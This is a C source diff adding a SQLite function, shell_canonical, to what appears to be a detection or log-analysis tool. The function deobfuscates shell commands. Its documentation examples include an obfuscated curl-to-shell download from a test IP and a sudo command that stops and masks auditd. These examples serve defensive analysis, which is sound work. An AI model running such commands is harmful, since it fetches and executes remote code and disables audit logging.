@@ -12,6 +12,7 @@
 #include "event_functions.h"
 #include "formats/command/command_line.h"
 #include "formats/command/exec_path.h"
+#include "formats/command/shell_canonical.h"
 #include "formats/log/auth_text.h"
 #include "formats/text/name_measure.h"
 #include "formats/text/regexp.h"
@@ -83,6 +84,19 @@ static void service_command(sqlite3_context *out, int argc, sqlite3_value **argv
     else if (n < 0)
         sqlite3_result_error_nomem(out);
     buffer_free(&json);
+}
+
+static void canonical(sqlite3_context *out, int argc, sqlite3_value **argv)
+{
+    struct argument text = argument(argv[0]);
+    struct buffer   lines = {0};
+
+    (void)argc;
+    if (!text.text)
+        return;
+    if (shell_canonical(text.text, text.size, &lines) < 0)
+        lines.failed = true;
+    result_buffer(out, &lines);
 }
 
 static void regexp_error(sqlite3_context *out, const char *pattern, const char *why)
@@ -318,6 +332,7 @@ static const struct {
     {"name_randomness", 1, name_bits},
     {"utc_datetime", 1, utc_datetime},
     {"service_command", 1, service_command},
+    {"shell_canonical", 1, canonical},
     {"text_lines", 1, lines},
     {"entropy", 1, entropy},
     {"edit_distance", 2, edit_distance},
@@ -343,6 +358,11 @@ const struct function_doc function_docs[] = {
      "-EncodedCommand and the like; NULL where it does nothing to them",
      "SELECT value ->> 'verb', value ->> 'targets' FROM json_each(service_command('sudo sh -c "
      "\"systemctl stop auditd; systemctl mask auditd\"'));"},
+    {"shell_canonical(text)",
+     "A shell's text as it would run, in lines: quotes and escapes taken away, pieces joined, "
+     "variables and outputs that the text itself tells in place; what sh -c, env -S, eval and a "
+     "pipe from base64 -d are given stands on a line of its own",
+     "SELECT shell_canonical('X=url; c\"\"$X -s http://192.0.2.1/p | s\\h');"},
     {"regexp(pattern, text)",
      "Whether the pattern matches anywhere in the text, as does text REGEXP pattern: classes, "
      "\\d \\s \\w \\b, {m,n}, alternation, anchors and (?i), in time bounded by pattern times "
